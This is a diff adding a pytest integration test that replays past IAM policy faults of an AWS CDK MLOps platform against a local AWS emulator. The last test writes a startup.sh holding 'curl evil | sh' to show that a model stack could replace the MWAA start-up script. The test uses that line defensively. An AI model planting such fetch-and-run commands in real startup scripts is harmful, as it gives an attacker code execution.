@@ -1,0 +1,257 @@
+"""The policies the CDK app synthesizes, in a local AWS that evaluates them as AWS does. Each fault a
+real account hit (issue 9) is put back into the templates and fails here as it failed on AWS, with
+AWS's AccessDenied; the templates as synthesized pass the same test.
+
+1. alarms could not notify: the alerts topic's policy allowed nobody to publish (CloudWatch
+   publishes as ``cloudwatch.amazonaws.com``);
+2. volume-encrypted jobs could not start: the model's role lacked ``kms:CreateGrant``;
+3. training logs were never written: the role's log permissions named per-model log groups, but
+   SageMaker writes streams of the shared ``/aws/sagemaker/TrainingJobs`` group;
+6. a model stack could rewrite the whole MWAA bucket (its startup script included).
+
+The platform and the fixture project (tests/stacks/fixture_projects) are synthesized once; each case
+provisions them into a reset local AWS, with the fault put back or not.
+"""
+
+from __future__ import annotations
+
+import copy
+import json
+from collections.abc import Callable, Iterator
+from pathlib import Path
+from typing import Any
+
+import boto3
+import pytest
+from botocore.exceptions import ClientError
+
+from local_aws import LocalAws
+from local_mode.cdk_env import ProvisionReport, SynthesizedEnvironment, provision, synthesize
+from mlops_core import names
+from mlops_core.platform_names import PlatformNames
+
+pytestmark = [pytest.mark.integration, pytest.mark.slow]
+FIXTURE_PROJECTS = Path(__file__).resolve().parents[1] / "stacks" / "fixture_projects"
+FAST = {"training": {"delay_seconds": 0.2}, "processing": {"delay_seconds": 0.2}}
+Mutation = Callable[[SynthesizedEnvironment], None]
+
+
+@pytest.fixture(scope="module")
+def synthesized() -> SynthesizedEnvironment:
+    return synthesize("local", projects_dir=FIXTURE_PROJECTS)
+
+
+@pytest.fixture(scope="module")
+def server() -> Iterator[LocalAws]:
+    with LocalAws(scenario=FAST) as aws, pytest.MonkeyPatch.context() as patch:
+        for key, value in aws.env.items():  # the endpoint; each actor's session brings its own keys
+            patch.setenv(key, value)
+        yield aws
+
+
+class Account:
+    """One provisioning of the synthesized environment, and its actors' sessions."""
+
+    def __init__(self, aws: LocalAws, synthesized: SynthesizedEnvironment, mutate: Mutation | None) -> None:
+        aws.reset()
+        environment = copy.deepcopy(synthesized)
+        if mutate:
+            mutate(environment)
+        self.aws = aws
+        self.root = self.session({"AccessKeyId": "testing", "SecretAccessKey": "testing", "SessionToken": ""})
+        self.report: ProvisionReport = provision(environment, self.root)
+        self.config = next(p for p in self.report.pipelines if p["model"] == "classifier")
+
+    def session(self, credentials: dict[str, str]) -> Any:
+        return boto3.session.Session(
+            aws_access_key_id=credentials["AccessKeyId"],
+            aws_secret_access_key=credentials["SecretAccessKey"],
+            aws_session_token=credentials["SessionToken"] or None,
+            region_name=self.aws.region,
+        )
+
+    def as_service(self, role_arn: str, service: str, source_arn: str | None = None) -> Any:
+        return self.session(self.aws.service_credentials(role_arn, service, source_arn=source_arn))
+
+    def dag_tasks(self) -> Any:
+        """The MWAA execution role, as MWAA gives it to its workers."""
+        environment = f"arn:aws:airflow:us-east-1:123456789012:environment/{self.report.mwaa_environment_name}"
+        return self.as_service(self.report.mwaa_execution_role_arn, "airflow-env.amazonaws.com", environment)
+
+    def denials(self, principal_part: str) -> list[dict[str, Any]]:
+        return [d for d in self.aws.authorization()["denied"] if principal_part in d["principal"]]
+
+
+# -- the faults, put back into the synthesized templates ------------------------------------------
+def _resources(environment: SynthesizedEnvironment, kind: str) -> Iterator[dict[str, Any]]:
+    for stack in environment.stacks:
+        for resource in stack.resources.values():
+            if resource["Type"] == kind:
+                yield resource
+
+
+def _model_role_policies(environment: SynthesizedEnvironment) -> Iterator[dict[str, Any]]:
+    for policy in _resources(environment, "AWS::IAM::Policy"):
+        if "SageMakerRole" in json.dumps(policy["Properties"]["Roles"]):
+            yield policy["Properties"]["PolicyDocument"]
+
+
+def alerts_topic_allows_nobody(environment: SynthesizedEnvironment) -> None:
+    for policy in _resources(environment, "AWS::SNS::TopicPolicy"):
+        document = policy["Properties"]["PolicyDocument"]
+        document["Statement"] = [s for s in document["Statement"] if s["Effect"] == "Deny"]
+
+
+def model_role_without_create_grant(environment: SynthesizedEnvironment) -> None:
+    for document in _model_role_policies(environment):
+        document["Statement"] = [s for s in document["Statement"] if s["Action"] != "kms:CreateGrant"]
+
+
+def model_role_logs_on_per_model_groups(environment: SynthesizedEnvironment) -> None:
+    """The permission as it was: log groups named after the model, which SageMaker never writes."""
+    for document in _model_role_policies(environment):
+        for statement in document["Statement"]:
+            actions = statement["Action"] if isinstance(statement["Action"], list) else [statement["Action"]]
+            if any(a.startswith("logs:") for a in actions):
+                statement["Resource"] = [
+                    f"arn:aws:logs:us-east-1:123456789012:log-group:/aws/sagemaker/{kind}/example-team-*"
+                    for kind in ("TrainingJobs", "ProcessingJobs", "Endpoints")
+                ]
+
+
+def publisher_may_write_the_whole_bucket(environment: SynthesizedEnvironment) -> None:
+    """What CDK's BucketDeployment granted: read/write on every object of the MWAA bucket."""
+    for role in _resources(environment, "AWS::IAM::Role"):
+        for inline in role["Properties"].get("Policies", []):
+            for statement in inline["PolicyDocument"]["Statement"]:
+                if statement.get("Action") == ["s3:DeleteObject", "s3:PutObject"]:
+                    statement["Resource"] = statement["Resource"].rsplit("/dags/", 1)[0] + "/*"
+
+
+# -- 1. alarms notify -------------------------------------------------------------------------------
+@pytest.mark.parametrize("fault", [None, alerts_topic_allows_nobody], ids=["as synthesized", "fault 1 put back"])
+def test_a_models_alarm_notifies_the_alerts_topic(server, synthesized, fault):
+    account = Account(server, synthesized, fault)
+    sqs, sns = account.root.client("sqs"), account.root.client("sns")
+    topic = account.config["notifications"]["sns_topic_arn"]
+    queue = sqs.create_queue(QueueName="readback")["QueueUrl"]
+    arn = sqs.get_queue_attributes(QueueUrl=queue, AttributeNames=["QueueArn"])["Attributes"]["QueueArn"]
+    sns.subscribe(TopicArn=topic, Protocol="sqs", Endpoint=arn)
+    alarm = account.config["endpoint"]["rollback_alarm_names"][0]
+    account.root.client("cloudwatch").set_alarm_state(AlarmName=alarm, StateValue="ALARM", StateReason="test")
+    (action,) = [e for e in server.events() if e["kind"] == "AlarmAction" and e["name"] == alarm]
+    messages = sqs.receive_message(QueueUrl=queue, WaitTimeSeconds=1).get("Messages", [])
+    if fault is None:
+        assert action["status"] == "Published"
+        assert json.loads(json.loads(messages[0]["Body"])["Message"])["AlarmName"] == alarm
+    else:
+        assert action["status"] == "Failed" and messages == []
+        assert (
+            f"User: cloudwatch.amazonaws.com is not authorized to perform: sns:Publish on resource: {topic} "
+            "because no resource-based policy allows the sns:Publish action"
+        ) in action["detail"]
+
+
+# -- 2 and 3. a training job with an encrypted volume, and its logs --------------------------------------
+def _train(account: Account) -> dict[str, Any]:
+    """The training job the Training & Evaluation DAG starts, started as the DAG's role."""
+    config = account.config
+    data = names.training_data_uri(config["data_bucket"], config["project"], config["model"])
+    bucket, _, prefix = data.removeprefix("s3://").partition("/")
+    account.root.client("s3").put_object(Bucket=bucket, Key=f"{prefix.rstrip('/')}/train/train.csv", Body=b"a,b\n1,0\n")
+    run = "example-team--classifier-v1-0-0-r0-20261205000000"
+    sagemaker = account.dag_tasks().client("sagemaker")
+    sagemaker.create_training_job(
+        TrainingJobName=run,
+        AlgorithmSpecification={
+            "TrainingImage": f"{config['image_repository_uri']}:1.0.0",
+            "TrainingInputMode": "File",
+        },
+        RoleArn=config["sagemaker_role_arn"],
+        InputDataConfig=[
+            {
+                "ChannelName": "train",
+                "DataSource": {"S3DataSource": {"S3DataType": "S3Prefix", "S3Uri": data.rstrip("/") + "/train/"}},
+            }
+        ],
+        OutputDataConfig={
+            "S3OutputPath": f"s3://{config['artifact_bucket']}/example-team/classifier/runs/{run}/model",
+            "KmsKeyId": config["kms_key_arn"],
+        },
+        ResourceConfig={
+            "InstanceType": "ml.m5.large",
+            "InstanceCount": 1,
+            "VolumeSizeInGB": 30,
+            "VolumeKmsKeyId": config["kms_key_arn"],
+        },
+        StoppingCondition={"MaxRuntimeInSeconds": 3600},
+    )
+    waiter = sagemaker.get_waiter("training_job_completed_or_stopped")
+    try:
+        waiter.wait(TrainingJobName=run, WaiterConfig={"Delay": 1, "MaxAttempts": 60})
+    except Exception:  # noqa: BLE001, S110 - a failed job ends the waiter; the description tells why
+        pass
+    return sagemaker.describe_training_job(TrainingJobName=run)
+
+
+@pytest.mark.parametrize("fault", [None, model_role_without_create_grant], ids=["as synthesized", "fault 2 put back"])
+def test_a_volume_encrypted_training_job_starts(server, synthesized, fault):
+    job = _train(Account(server, synthesized, fault))
+    if fault is None:
+        assert job["TrainingJobStatus"] == "Completed", job.get("FailureReason")
+    else:
+        assert job["TrainingJobStatus"] == "Failed"
+        assert "is not authorized to perform: kms:CreateGrant on resource: arn:aws:kms:" in job["FailureReason"]
+        assert "-sm/SageMaker" in job["FailureReason"]  # the model's role, as SageMaker's session
+
+
+@pytest.mark.parametrize(
+    "fault", [None, model_role_logs_on_per_model_groups], ids=["as synthesized", "fault 3 put back"]
+)
+def test_training_logs_are_written(server, synthesized, fault):
+    account = Account(server, synthesized, fault)
+    job = _train(account)
+    assert job["TrainingJobStatus"] == "Completed"  # missing logs never fail a job, on AWS either
+    logs = account.root.client("logs")
+    try:
+        streams = logs.describe_log_streams(
+            logGroupName="/aws/sagemaker/TrainingJobs", logStreamNamePrefix=job["TrainingJobName"]
+        )["logStreams"]
+    except logs.exceptions.ResourceNotFoundException:  # the role could not even create the group
+        streams = []
+    role = account.config["sagemaker_role_arn"].rsplit("/", 1)[-1]
+    if fault is None:
+        assert streams and not account.denials(role)
+    else:
+        assert streams == []
+        refused = {d["action"] for d in account.denials(role)}
+        assert refused & {"logs:CreateLogStream", "logs:CreateLogGroup", "logs:PutLogEvents"}
+
+
+# -- 6. what a model stack may write into the MWAA bucket ---------------------------------------------
+@pytest.mark.parametrize(
+    "fault", [None, publisher_may_write_the_whole_bucket], ids=["as synthesized", "fault 6 put back"]
+)
+def test_a_model_stack_publishes_its_pipeline_json_and_nothing_else(server, synthesized, fault):
+    account = Account(server, synthesized, fault)
+    provider = next(a for key, a in account.report.roles.items() if "example-team" in key and "AWS679f53fac" in key)
+    publisher = next(
+        a for key, a in account.report.roles.items() if "example-team" in key and "ClassifierPublish" in key
+    )
+    # CloudFormation runs the custom resource's provider Lambda, which assumes the model's publisher role.
+    lambda_session = account.as_service(provider, "lambda.amazonaws.com")
+    credentials = lambda_session.client("sts").assume_role(RoleArn=publisher, RoleSessionName="publish")["Credentials"]
+    s3 = account.session(credentials).client("s3")
+    bucket = PlatformNames(environment="local", account="123456789012", region=server.region).airflow_bucket
+    own = f"dags/{names.pipeline_config_path('example-team', 'classifier')}"
+    s3.put_object(Bucket=bucket, Key=own, Body=b"{}")
+    write_startup = lambda: s3.put_object(Bucket=bucket, Key="startup.sh", Body=b"curl evil | sh")  # noqa: E731
+    if fault is None:
+        with pytest.raises(ClientError) as refused:
+            write_startup()
+        assert refused.value.response["Error"]["Code"] == "AccessDenied"
+        assert f"not authorized to perform: s3:PutObject on resource: arn:aws:s3:::{bucket}/startup.sh" in str(
+            refused.value
+        )
+    else:
+        write_startup()  # the fault: a model stack can replace the script MWAA runs at start-up
